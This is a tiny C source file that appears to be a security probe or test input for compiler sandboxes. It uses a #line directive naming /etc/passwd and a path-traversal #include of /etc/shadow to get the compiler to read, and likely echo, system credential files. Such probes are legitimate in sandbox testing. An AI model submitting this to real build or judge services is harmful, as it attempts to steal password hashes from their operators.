#line 1 "/etc/passwd"
#include "../../../../../../../../etc/shadow"
int main() { return 0; }
